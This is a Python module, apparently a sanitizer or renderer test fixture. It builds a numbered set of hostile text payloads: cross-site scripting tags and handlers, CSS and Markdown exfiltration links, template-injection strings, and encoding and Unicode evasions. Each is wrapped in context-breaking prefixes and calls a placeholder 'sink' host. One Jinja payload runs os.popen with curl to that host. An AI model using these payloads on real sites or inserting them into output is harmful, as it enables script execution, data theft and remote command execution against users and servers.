"""Texts that try to be more than text: hand-picked attacks, each in every wrapping that may let it out of the place it stands in."""

from dataclasses import dataclass

RUN = "top.ran={n},fetch('{sink}/{n}'),alert({n})"
"""What a script does once it runs: it leaves a mark, calls home and opens a dialog."""
ATTACKS = (
    # Scripts and handlers.
    "<script>{run}</script>",
    "<script src={sink}/{n}.js></script>",
    '<img src=x onerror="{run}">',
    "<img src={sink}/{n}.png>",
    '<img srcset="{sink}/{n}.png 2x">',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><image href={sink}/{n}.png /></svg>",
    "<svg><use href={sink}/{n}.svg#a /></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    "<svg><style>@import '{sink}/{n}.css'</style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;">',
    "<video autoplay onloadstart={run} src={sink}/{n}.webm></video>",
    "<audio src={sink}/{n}.ogg autoplay></audio>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}><summary>x</summary></details>",
    "<marquee onstart={run}>x</marquee>",
    "<body onpageshow={run}>",
    "<p style=animation-name:x onanimationstart={run}>x</p>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<ScRiPt\n>{run}</sCrIpT\t>",
    "<img/src=`x`/onerror={run}>",
    # Frames, plug-ins, other documents.
    '<iframe src="javascript:{run}"></iframe>',
    "<iframe srcdoc=\"<img src='{sink}/{n}.png'>\"></iframe>",
    "<iframe src={sink}/{n}></iframe>",
    "<object data={sink}/{n}.html></object>",
    "<embed src={sink}/{n}.swf>",
    "<link rel=stylesheet href={sink}/{n}.css>",
    "<link rel=prefetch href={sink}/{n}>",
    '<meta http-equiv=refresh content="0;url={sink}/{n}">',
    "<base href={sink}/{n}/>",
    "<portal src={sink}/{n}></portal>",
    # Forms and links.
    "<form action={sink}/{n}><button autofocus>Sign in</button></form>",
    "<form id=x></form><button form=x formaction={sink}/{n}>go</button>",
    "<a href=javascript:{run}>click</a>",
    "<a href={sink}/{n} ping={sink}/{n}>click</a>",
    "<a href=//user:secret@127.0.0.1/{n}>credentials</a>",
    "<a href=data:text/html,<script>{run}</script>>click</a>",
    # Styles.
    "<style>*{background:url({sink}/{n}.png)}</style>",
    '<div style="background:url({sink}/{n}.png)">x</div>',
    "<div style=position:fixed;inset:0;z-index:9999>over everything {n}</div>",
    "<style>input[value^=a]{background:url({sink}/{n})}</style>",
    # Markdown.
    "![x]({sink}/{n}.png)",
    "![x][r{n}]\n\n[r{n}]: {sink}/{n}.png",
    "[![x]({sink}/{n}.png)]({sink}/{n})",
    "[x](javascript:{run})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== '{n}')",
    "[x](<{sink}/{n}> 'title')",
    "<{sink}/{n}>",
    "<https://user:secret@127.0.0.1/{n}>",
    '[x]({sink}/{n}" onmouseover="{run})',
    "**_~~[![`<img src=x onerror={run}>`]({sink}/{n})](vbscript:{n})~~_**",
    # Templates of any language.
    "{{ {n} * 7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}{n}",
    "{% for x in range({n}) %}x{% endfor %}",
    "{{ cycler.__init__.__globals__.os.popen('curl {sink}/{n}').read() }}",
    "${fetch('{sink}/{n}')}",
    "#{7*{n}}<%= 7*{n} %>@(7*{n})",
    "{{constructor.constructor(`{run}`)()}}",
    # What looks like something else.
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "pay \u202e{n}001\u202c\u2066\u202e now\u2069 \u202dgnp.",
    "<scr\u200bipt>{run}</scr\u200bipt>\u2060\ufeff\u00ad",
    "<img src=x\u0085onerror={run}>",
)
"""`{n}` the payload's number, `{sink}` an address that must never be asked, `{run}` the script above."""
WRAPPINGS = (
    "{}",
    '">{}',
    "'>{}<!--",
    "--></title></textarea></style></script>{}",
    "- > **{}**",
    "| a |\n|---|\n| {} |",
)
"""Ends of attributes, comments and elements that swallow text; Markdown around it."""


@dataclass(frozen=True)
class Payload:
    """A hostile text. `shape`: what it is without number and address, different for each."""

    number: int
    shape: str
    text: str

    @property
    def name(self) -> str:
        """A harmless word of its own, to find its place again."""
        return f"payload{self.number:04}"


def payloads(sink: str) -> list[Payload]:
    """All of them. `sink`: the origin that they would call."""
    shapes = [wrapping.replace("{}", attack) for wrapping in WRAPPINGS for attack in ATTACKS]
    return [Payload(number, shape, filled(shape, number, sink)) for number, shape in enumerate(shapes, 1001)]


def filled(shape: str, number: int, sink: str) -> str:
    """A shape with its number and the address in it."""
    return shape.replace("{run}", RUN).replace("{sink}", sink).replace("{n}", str(number))
